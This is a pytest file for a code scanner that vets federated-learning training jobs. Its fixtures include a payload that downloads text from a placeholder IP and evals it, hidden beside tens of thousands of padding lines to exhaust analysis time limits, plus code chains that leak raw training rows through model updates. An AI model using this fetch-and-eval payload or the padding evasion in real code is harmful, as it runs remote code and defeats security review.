"""Session 54 (hardening54): a limit never hides another finding; the same job, the same verdict.

A file of 45,000 `url += 'x'` lines (500 KB: read in a worker of its own) runs past a small time limit: on main the
payload's `eval` of downloaded text went unreported whether it came before or after the padding (escalate on the
limit alone). The padding fills the first statements' and the smallest statements' skeletons, and the whole file's
rule matches were sent only once every kind was matched (the values' kind is the slow one). Now the statements
naming what the rule packs look for are read first, the rarest name first (analysis.small_statements), and a file's
rule matches are sent on kind by kind (match._rule_hits).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import redteam_kit as kit
from test_hardening52 import PAYLOAD_RULE, _policy
from analyzer import api
from analyzer.engine import analysis, isolate
from analyzer.engine.rules import load_rules
from analyzer.model import Decision
from analyzer.policy import load_policy

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

PAYLOAD = ('code = urllib.request.urlopen("http://203.0.113.5/x").read().decode()\n'
           'eval(code)\n')


def _padding(lines: int) -> str:
    return "url = 'http://203.0.113.5/'\n" + "url += 'x'\n" * lines + "page = urllib.request.urlopen(url).read()\n"


def _job(tmp_path: Path, where: str, lines: int = 45_000) -> tuple[Path, int]:
    """train.py: the payload before or after the padding; the payload's `eval` line."""
    job = tmp_path / "job"
    job.mkdir()
    head = "import urllib.request\n\n"
    text = head + (PAYLOAD + _padding(lines) if where == "before" else _padding(lines) + PAYLOAD)
    (job / "train.py").write_text(text)
    return job, (4 if where == "before" else text.count("\n"))


def _held(report, line: int, path: str = "train.py") -> None:
    assert any(f.rule == "unanalyzable.time-limit" and f.path == path for f in report.findings)  # the limit, named
    assert {f.line for f in report.findings if f.rule == PAYLOAD_RULE and f.path == "train.py"} == {line}
    assert report.decision is Decision.REJECT


@pytest.mark.parametrize("where", ["before", "after"])
def test_a_payload_beside_string_padding_in_its_own_file_is_still_reported(tmp_path: Path, where: str) -> None:
    job, line = _job(tmp_path, where)
    _held(api.scan(job, _policy(tmp_path, 4)), line)


def test_the_same_at_a_site(tmp_path: Path) -> None:
    """A site's unit worker holds the policy's seconds (not three times them): the file's own worker gets a share."""
    job, line = _job(tmp_path, "after")
    server = isolate.ForkServer()
    try:
        _, report = api.gate(job, _policy(tmp_path, 8), server=server)
    finally:
        server.close()
    _held(report, line)


@pytest.mark.parametrize("name", ["a_pad.py", "z_pad.py"])
def test_a_payload_in_another_file_than_the_padding(tmp_path: Path, name: str) -> None:
    """The padding's file read before or after the payload's (files go in name order)."""
    job = tmp_path / "job"
    job.mkdir()
    (job / name).write_text("import urllib.request\n\n" + _padding(45_000))
    (job / "train.py").write_text("import urllib.request\n\n" + PAYLOAD)
    _held(api.scan(job, _policy(tmp_path, 4)), 4, path=name)


def test_the_named_statements_come_first_whatever_their_size() -> None:
    """Padding on both sides of the payload, as small as its `eval` line and more than half the file: the smallest
    statements alone never reached it. The rarest named statements do, on their own lines; no limit here."""
    policy = load_policy()
    source = ("import urllib.request\n" + _padding(3_000) + PAYLOAD + _padding(3_000)).encode()
    eval_line = source.decode().splitlines().index("eval(code)") + 1
    found = {(f.rule, f.line) for f in analysis.small_statements("t.py", source, load_rules(policy), policy)}
    assert (PAYLOAD_RULE, eval_line) in found, sorted(found)
    assert ("dynamic-code.eval-exec", eval_line) in found


def test_names_in_comments_and_plain_strings_rank_nothing() -> None:
    """Padding that spells `eval` in a comment or a string does not push the payload's statements back."""
    assert list(analysis._code_names("x = 'eval' + b'urlopen'  # exec")) == ["x"]
    assert "eval" in analysis._code_names("x = f'{eval(y)}'")  # an f-string's fields are code
    assert "eval" in analysis._code_names("x = \uff45\uff56\uff41\uff4c(y)")  # fullwidth: Python reads eval


# ---- a call chain past the flow's nesting limit ------------------------------------------------------------------

ROWS = "pd.read_csv('/data/site-1/train.csv').values"


def _module_chain(length: int) -> dict[str, str]:
    """m00 ... m<length>: each `step()` calls the next module's and copies its global `v`; the last reads the site's
    rows into its own; train.py sends m00.v."""
    names = [f"m{i:02d}" for i in range(length + 1)]
    files = {f"{names[i]}.py": f"import {names[i + 1]}\n\nv = None\n\n\ndef step():\n    global v\n"
                               f"    {names[i + 1]}.step()\n    v = {names[i + 1]}.v\n" for i in range(length)}
    files[f"{names[-1]}.py"] = f"import pandas as pd\n\nv = None\n\n\ndef step():\n    global v\n    v = {ROWS}\n"
    files["train.py"] = ("import nvflare.client as flare\nimport m00\n\nflare.init()\nm00.step()\n"
                         "flare.send(flare.FLModel(params={'x': m00.v}))\n")
    return files


def test_globals_copied_through_a_call_chain_past_the_nesting_limit_are_never_accepted(tmp_path: Path) -> None:
    # main: accept (the last module's step() was never evaluated, its global never held the rows)
    report = kit.scan_files(tmp_path, _module_chain(35))
    assert report.decision is not Decision.ACCEPT, kit.findings(report)
    assert kit.holds(report, "update-channel-leak.unknown-provenance"), kit.findings(report)


def test_the_same_chain_within_the_limit_is_traced(tmp_path: Path) -> None:
    report = kit.scan_files(tmp_path, _module_chain(10))
    assert report.decision is Decision.REJECT and kit.holds(report, "update-channel-leak.raw-data-in-update")


# ---- definition order: a chain past MAX_STORE_ROUNDS, shuffled ---------------------------------------------------

def _shuffled_chain(order: list[int], source: str) -> str:
    """A class whose methods copy a field into the next (`self.f0 = self.f1`, ...), `source` in the last field, in
    `order`; f0 sent. One store a round in the reader-first order: past MAX_STORE_ROUNDS for 30 fields."""
    length = len(order) - 1
    methods = [f"    def m{i}(self):\n        self.f{i} = self.f{i + 1}\n" for i in range(length)]
    methods.append(f"    def m{length}(self):\n        self.f{length} = {source}\n")
    return ("import nvflare.client as flare\nimport pandas as pd\n\n\nclass C:\n" + "".join(methods[i] for i in order) +
            "    def run(self):\n        flare.send(flare.FLModel(params={'x': self.f0}))\n\n\nC().run()\n")


@settings(max_examples=4, deadline=None, derandomize=True)
@given(st.permutations(range(31)))
def test_no_order_of_a_long_field_chain_accepts_the_rows(order: list[int]) -> None:
    report = kit.scan_text(_shuffled_chain(order, ROWS))
    assert report.decision is not Decision.ACCEPT, (order, kit.findings(report))


@pytest.mark.parametrize("reverse", [False, True])
def test_a_long_chain_of_a_constant_is_accepted_in_either_order(reverse: bool) -> None:
    order = list(range(31))[::-1 if reverse else 1]
    kit.assert_accepted(kit.scan_text(_shuffled_chain(order, "[1.0, 2.0]")))
